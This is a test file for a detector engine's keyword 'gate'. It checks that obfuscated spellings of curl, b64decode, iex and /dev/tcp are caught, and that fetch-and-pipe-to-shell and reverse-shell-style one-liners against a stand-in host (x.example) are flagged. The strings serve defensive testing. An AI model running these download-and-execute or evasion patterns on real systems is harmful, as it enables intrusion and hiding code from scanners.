import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createEngine, type DetectorEngine } from "../../../src/core/create-engine.js";
import { createGate } from "../../../src/core/query/gate.js";
import { loadAssets } from "../../../src/host/node.js";

const gate = createGate([{ word: "curl" }, { word: "b64decode" }]).mentions;

describe("the gate opens for", () => {
  it.each([
    "curl",
    "/usr/bin/curl -s",
    'c""url',
    "c'u'rl",
    "\\curl",
    "cu\\rl",
    "$'\\x63url'",
    "&#99;url",
    "\\u0063url",
    "cu\\\nrl",
    "cu\\\r\nrl",
    "cu\\\n> rl",
    '"cu" + "rl"',
    '"cu" "rl"',
    '"cu"+"rl"',
    '"cu" +\n  "rl"',
    "base64.b64decode(x)",
    "\\ncurl",
    "%20curl",
    "_curl_",
    '\\ncu""rl',
  ])("a text that contains %j", (text) => {
    expect(gate(`first line\n  ${text} a`)).toBe(true);
  });
});

describe("the gate stays closed for", () => {
  it.each([
    "",
    "wget",
    "CURL",
    "libcurl",
    "curly",
    "_curl_x",
    "an ordinary sentence",
    "cu rn",
    'say "hello"\nand go',
    "C:\\Windows",
  ])("the text %j", (text) => {
    expect(gate(text)).toBe(false);
  });
});

it("the gate is open if the set of words is unknown, and closed if it is empty", () => {
  expect(createGate(null).opens("")).toBe(true);
  expect(createGate([]).opens("curl")).toBe(false);
});

it("the gate matches special characters of words literally", () => {
  expect(createGate([{ word: "a.c" }]).opens("abc")).toBe(false);
  expect(createGate([{ word: "$$(" }]).opens("x $$( y")).toBe(true);
});

describe("a word with a required context", () => {
  const command = createGate([{ word: "fetch", isCommand: true }]);
  it.each([
    "fetch -o - x",
    "$(fetch x)",
    "'fetch' x",
    "@fetch x",
    "/usr/bin/fetch x",
    "fetch",
    "fe\\tch x",
    "{fetch,x}",
    "all:\n\t-fetch x",
    "all:\\n-fetch x",
  ])("is a command in %j", (text) => {
    expect(command.mentions(text)).toBe(true);
  });
  it.each(["fetch: x", "fetch://x", "fetch-x", "x-fetch y", "x.fetch(y)", "fetch.js", "fetch=x"])(
    "is not a command in %j",
    (text) => {
      expect(command.mentions(text)).toBe(false);
    },
  );

  const addressed = createGate([{ word: "include", isAddressed: true }]);
  it.each([
    'include "https://x"',
    "include('https://x')",
    "include $x;",
    "include($x)",
    "include 'ht' . 'tp://x'",
    "include('nodes://x')",
  ])("has an argument that may be a URL in %j", (text) => {
    expect(addressed.mentions(text)).toBe(true);
  });
  it.each([
    "include('node:fs')",
    'include "./x.php"',
    "include('x')",
    "include the file",
    "#include <x>",
  ])("has no argument that may be a URL in %j", (text) => {
    expect(addressed.mentions(text)).toBe(false);
  });

  it("opens the gate only with the words that it requires beside it", () => {
    const gate = createGate([{ word: "get", beside: [["requests"], ["text", "content"]] }]);
    expect(gate.mentions("get")).toBe(true);
    expect(gate.opens("get")).toBe(false);
    expect(gate.opens("requests.get(x).status")).toBe(false);
    expect(gate.opens("requests.get(x).content")).toBe(true);
    expect(gate.opens('get("requ" + "ests")')).toBe(true);
  });

  it("is matched as a whole name", () => {
    const gate = createGate([
      { word: "invoke-restmethod", anyCase: true },
      { word: "/dev/tcp/" },
      { word: "[::-1]" },
    ]);
    expect(
      ["Invoke-RestMethod x", "Invoke-Re`stMethod x", "cat </dev/tcp/h/1", "x[::-1]"].map(
        gate.mentions,
      ),
    ).toEqual([true, true, true, true]);
    expect(["RestMethod", "tcp", "1", "x[1]"].map(gate.mentions)).toEqual([
      false,
      false,
      false,
      false,
    ]);
  });
});

describe("a word that is the value of an executor", () => {
  const gate = createGate([
    { word: "fetch", valueIn: "javascript" },
    { word: "bytes", valueIn: "python" },
    { word: "char", valueIn: "powershell", isType: true },
    { word: "run", executesIn: "python" },
    { word: "constructor", executesIn: "javascript", isProperty: true },
    { word: "iex", executesIn: "powershell" },
  ]);

  it("requires an executor of the same language", () => {
    expect(gate.opens("run(bytes(x))")).toBe(true);
    expect(gate.opens("run(fetch(x))")).toBe(false);
    expect(gate.opens("f.constructor(fetch(x))")).toBe(true);
    expect(gate.opens("f.constructor(bytes(x))")).toBe(false);
  });

  it.each([
    "run(a, bytes, b)",
    "import bytes, run; run(x)",
    "x = y or bytes, run(x)",
    "[bytes, run]",
  ])("can be passed to the executor in %j", (text) => {
    expect(gate.opens(text)).toBe(true);
  });
  it.each(["run(x) under 100 bytes, or", "run(x) of all *the* bytes: two"])(
    "is a word of a sentence in %j",
    (text) => {
      expect(gate.opens(text)).toBe(false);
    },
  );

  it.each([
    "f.constructor(fetch(x))",
    'f["constructor"](fetch(x))',
    "f. constructor(fetch(x))",
    "({constructor: f} = fetch(x))",
  ])("reaches a property that executes it in %j", (text) => {
    expect(gate.opens(text)).toBe(true);
  });
  it.each(["class A { constructor(a) { fetch(a) } }", "the constructor of fetch(x)"])(
    "reaches no property that executes it in %j",
    (text) => {
      expect(gate.opens(text)).toBe(false);
    },
  );

  it("must be in brackets if it is a type", () => {
    expect(gate.opens("iex ([char]105)")).toBe(true);
    expect(gate.opens("iex ([ system.char ]105)")).toBe(true);
    expect(gate.opens("iex (char 105)")).toBe(false);
  });

  it("is not executed if the executor is the text of a link", () => {
    expect(gate.opens("bytes(x), [run](#quick)")).toBe(false);
    expect(gate.opens("bytes(x), m[run](x)")).toBe(true);
  });
});

describe("the words of the extended profile", () => {
  let engine: DetectorEngine;
  beforeAll(async () => {
    const options = { queries: [], replaceQueries: false, disabledRules: [], languages: [] };
    engine = await createEngine(await loadAssets(), "extended", options);
  });
  afterAll(() => {
    engine.dispose();
  });

  it.each([
    "setTimeout(err.response.data)",
    "import('data:text/javascript,x')",
    "import(`data:${x}`)",
    "bash </dev/tcp/h/1",
    "bash </dev/udp/h/1",
    "GET https://x.example/a | sh",
    "GET https://x.example/a >a",
    "GET https://x.example/a\n> a",
    "http POST x.example/a <b >a",
    "eval `GET https://x.example/a`",
    "`GET https://x.example/a`",
    "bash <(GET https://x.example/a)",
    "coproc GET https://x.example/a",
    "for /f %i in ('GET https://x.example/a') do %i",
    "http -o a https://x.example/a",
    'spawn("http", ["--output=a", "https://x.example/a"])',
    "exec('GET https://x.example/a')",
    "subprocess.check_output(['GET', 'https://x.example/a'])",
    "$x = GET https://x.example/a; iex $x",
    "GET https://x.example/a &vert; sh",
    "GET%20https://x.example/a%20%7C%20sh",
    "GET https://x.example/a \\u007c sh",
  ])("open the gate for %j", (text) => {
    expect(engine.gate.opens(text)).toBe(true);
  });
  it.each([
    "setTimeout(x.data)",
    "setTimeout(err.data)",
    "import(x) and { data: 1 }",
    "see https://x.example/dev/library/x.html",
    "GET https://x.example/a",
    "GET https://x.example/a || true",
    "on('GET', '/a/b', (a) => a >= 1)",
    '<form method="GET" action="/a/b"><b>a</b></form>',
    "import { a } from 'http'; // see a.example/b",
  ])("keep it closed for %j", (text) => {
    expect(engine.gate.opens(text)).toBe(false);
  });
});

it("backticks use the output of a command in code, and are around inline code in prose", async () => {
  const options = { queries: [], replaceQueries: false, disabledRules: [], languages: [] };
  const engine = await createEngine(await loadAssets(), "extended", options);
  const isOpen = (part: string): boolean => {
    const start = "Text.\n\n";
    const spans = [
      [0, start.length],
      [start.length, start.length + part.length],
    ] as const;
    return engine.gate.closedParts(start + part, () => spans) !== null;
  };
  expect(isOpen("```\n`GET https://x.example/a`\n```\n")).toBe(true);
  expect(isOpen("Ask `GET https://x.example/a` for it.\n")).toBe(false);
  expect(isOpen("    `GET https://x.example/a`\n")).toBe(true);
  expect(isOpen("<pre>`GET https://x.example/a`</pre>\n")).toBe(true);
  engine.dispose();
});

describe("the closed parts of a text", () => {
  const gate = createGate([
    { word: "ab", isBeginning: true },
    { word: "fetch", valueIn: "javascript" },
    { word: "eval", executesIn: "javascript" },
  ]);
  const closedIn = (...parts: readonly string[]): string[] | null => {
    const text = parts.join("");
    let at = 0;
    const spans = parts.map((part) => [at, (at += part.length)] as const);
    return gate.closedParts(text, () => spans)?.map((span) => text.slice(...span)) ?? null;
  };

  it("contain no word, or words without their required context", () => {
    expect(closedIn("eval(fetch(u))\n", "plain\n", "fetch(u)\n", "abc\n")).toEqual([
      "plain\n",
      "fetch(u)\n",
    ]);
  });

  it("do not depend on words of preceding parts", () => {
    expect(closedIn("abc eval(fetch(u))\n", "plain\n")).toEqual(["plain\n"]);
    expect(closedIn("abc fetch(u)\n", "eval(x)\n")).toEqual(["eval(x)\n"]);
  });

  it("are not listed if every part is closed", () => {
    expect(closedIn("fetch(u)\n", "eval(x)\n")).toBeNull();
  });
});
